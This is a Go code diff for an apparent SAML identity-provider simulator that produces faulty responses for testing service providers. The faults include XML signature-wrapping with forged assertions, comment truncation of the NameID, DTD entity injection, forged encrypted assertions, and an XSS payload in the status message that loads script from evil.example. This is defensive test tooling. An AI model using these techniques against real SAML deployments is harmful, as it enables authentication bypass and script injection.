@@ -1,6 +1,9 @@
 package idpsim
 
-import "strings"
+import (
+	"fmt"
+	"strings"
+)
 
 // draft is a response on its way from facts to document.
 type draft struct {
@@ -8,8 +11,9 @@ type draft struct {
 	settings SAMLSettings
 	keys     *samlKeys
 	fault    Fault
+	attack   attack // how the fault is made, where it is in the catalogue
 	a        samlFacts
-	forged   samlFacts // for the wrapping faults
+	forged   samlFacts // what an attacker would like to be read
 }
 
 // cutOff is what a signed NameID ends in when a comment is going to cut it off.
@@ -18,6 +22,9 @@ const cutOff = ".evil.example"
 // spoil makes those faults that are false facts.
 func (d *draft) spoil(kind Kind) {
 	a := &d.a
+	if d.attack.facts != nil {
+		d.attack.facts(a)
+	}
 	a.issued = a.issued.Add(d.fault.shift())
 	switch d.fault {
 	case FaultWrongAudience:
@@ -35,84 +42,126 @@ func (d *draft) spoil(kind Kind) {
 		a.withoutConditions = true
 	case FaultComment:
 		a.nameID += cutOff
-	case FaultDenied:
+	case FaultDenied, AttackDeniedMarkup:
 		a.status, a.subStatus = "Responder", "RequestDenied"
 		a.statusMsg = "The sign-in policy of this organisation denies access to the application."
+		if d.fault == AttackDeniedMarkup {
+			a.statusMsg = `"><script src=https://evil.example></script><img src=x onerror=alert(1)>`
+		}
 	}
 }
 
-// signs says which elements are to be signed. Wrapping is about a signed assertion; a response
-// without one has only itself.
+// signs says which elements are to be signed. What is done around a signed assertion leaves its signature good; a
+// response without an assertion has only itself.
 func (d *draft) signs() (assertion, response bool) {
-	switch d.fault {
-	case FaultUnsigned:
+	switch {
+	case d.fault == FaultUnsigned:
 		return false, false
-	case FaultWrapped, FaultWrappedAround:
-		return true, false
-	case FaultDenied:
+	case d.a.status != "Success":
 		return false, d.settings.Sign != "assertion"
+	case d.attack.whole:
+		return false, true
+	case d.settings.Encrypt == encryptForged:
+		return false, false
+	case d.attack.outwards(), d.settings.Encrypt == encryptBeside:
+		return true, false
 	}
 	return d.settings.Sign != "response", d.settings.Sign != "assertion"
 }
 
 // write signs and makes the faults that are in the form.
 func (d *draft) write() (string, error) {
-	key := d.keys.own
+	s := signer{key: d.keys.own, alg: algorithms[d.settings.Algorithm], style: d.style}
 	if d.fault == FaultWrongKey {
-		key = d.keys.impostor
+		s.key = d.keys.impostor
 	}
-	s := signer{key, algorithms[d.settings.Algorithm], d.style}
 	signAssertion, signResponse := d.signs()
-	assertion := ""
-	if d.fault != FaultDenied {
-		var err error
-		if assertion, err = d.assertions(s, signAssertion); err != nil {
-			return "", err
-		}
-	}
-	if to, err := d.recipient(); err != nil {
+	assertions, outside, status, err := d.assertions(s, signAssertion)
+	if err != nil {
 		return "", err
-	} else if to != nil && assertion != "" {
-		if assertion, err = d.style.sealed(assertion, to, d.settings.Encrypt == encryptWithCBC); err != nil {
-			return "", err
-		}
 	}
-	response, signature := d.style.response(d.a, assertion), ""
+	response, signature := d.style.response(d.a, assertions), ""
 	if signResponse {
-		var err error
 		if signature, err = s.sign(response.id, response.with("")); err != nil {
 			return "", err
 		}
 	}
-	document := d.style.finish(response.with(signature))
-	switch d.fault {
-	case FaultComment:
+	text := response.with(signature + outside)
+	if end := "</" + d.style.p("Status") + ">"; status != "" {
+		text = strings.Replace(text, end, status+end, 1)
+	}
+	if d.attack.wrap != nil {
+		text = d.attack.wrap(d, response, signature)
+	}
+	return d.trick(d.style.finish(text))
+}
+
+// trick does to the finished document what the fault is about.
+func (d *draft) trick(document string) (string, error) {
+	before := document
+	switch {
+	case d.attack.text != nil:
+		document = d.attack.text(d, document)
+	case d.fault == FaultComment:
 		document = strings.Replace(document, cutOff, "<!---->"+cutOff, 1)
-	case FaultDTD:
-		root := strings.Index(document, "<"+d.style.p("Response"))
-		document = document[:root] + "<!DOCTYPE " + d.style.p("Response") + ` [<!ENTITY who "nobody">]>` + document[root:]
+	case d.fault == FaultDTD:
+		document = prolog("<!DOCTYPE "+d.style.p("Response")+` [<!ENTITY who "nobody">]>`)(d, document)
+	default:
+		return document, nil
+	}
+	if document == before {
+		return "", fmt.Errorf("%w: %s changes nothing in an encrypted response", ErrInvalid, d.fault)
 	}
 	return document, nil
 }
 
-// assertions is the assertion, signed if so wished, with a forged one before or around it.
-func (d *draft) assertions(s signer, signed bool) (string, error) {
+// assertions is the assertion, signed if so wished and encrypted if the settings say so, with a forged one beside it or
+// around it, and what goes before the Status and into it. There is none where the IdP says no.
+func (d *draft) assertions(s signer, signed bool) (text, outside, status string, err error) {
+	if d.a.status != "Success" {
+		return "", "", "", nil
+	}
 	good := d.style.assertion(d.a)
-	if !signed {
-		return good.with(""), nil
+	text = good.with("")
+	if signed {
+		if d.attack.signing != nil {
+			d.attack.signing(&s, good.id)
+		}
+		signature, err := s.sign(good.id, good.with(""))
+		if err != nil {
+			return "", "", "", err
+		}
+		text = good.with(signature)
+		if d.attack.around != nil {
+			text = d.attack.around(d, good, signature)
+		}
+		if d.attack.outside != nil {
+			outside = d.attack.outside(d, good, signature)
+		}
+		if d.attack.status != nil {
+			status = d.attack.status(d, good, signature)
+		}
 	}
-	signature, err := s.sign(good.id, good.with(""))
-	if err != nil {
-		return "", err
+	if text, err = d.encrypted(text); err != nil {
+		return "", "", "", err
 	}
-	signedOne := good.with(signature)
-	switch d.fault {
-	case FaultWrapped:
-		return d.style.assertion(d.forged).with("") + signedOne, nil
-	case FaultWrappedAround:
-		forged := d.style.assertion(d.forged)
-		end := strings.LastIndex(forged.tail, "</")
-		return forged.with("")[:len(forged.head)+end] + signedOne + forged.tail[end:], nil
+	return text, outside, status, nil
+}
+
+// encrypted is the assertion as the settings have it encrypted, or the forged one, which needs no more than the
+// application's own certificate.
+func (d *draft) encrypted(assertion string) (string, error) {
+	to, err := d.recipient()
+	if err != nil || to == nil {
+		return assertion, err
 	}
-	return signedOne, nil
+	switch how := d.settings.Encrypt; how {
+	case encryptForged:
+		return d.style.sealed(d.forgedOne(""), to, how)
+	case encryptBeside:
+		forged, err := d.style.sealed(d.forgedOne(""), to, how)
+		return forged + assertion, err
+	default:
+		return d.style.sealed(assertion, to, how)
+	}
 }
